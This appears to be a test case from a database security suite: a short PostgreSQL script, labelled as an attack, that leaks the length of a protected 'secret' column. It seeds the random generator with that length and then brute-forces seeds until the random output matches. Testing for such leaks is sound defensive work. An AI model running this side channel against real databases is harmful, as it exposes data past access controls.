-- Seeds the random numbers with the value in a block that is refused, and finds out by which.
-- wants: read
-- shows: the secret has 20 letters
-- attack:
DO $$ BEGIN PERFORM setseed((SELECT length(secret) FROM vlt_account LIMIT 1) / 1000.0); END $$;
CREATE TEMP TABLE told AS SELECT random() AS told;
DO $$ DECLARE number float := (SELECT told FROM told); BEGIN
  FOR n IN 1..100 LOOP
    PERFORM setseed(n / 1000.0);
    IF random() = number THEN RAISE NOTICE 'the secret has % letters', n; END IF;
  END LOOP;
END $$;
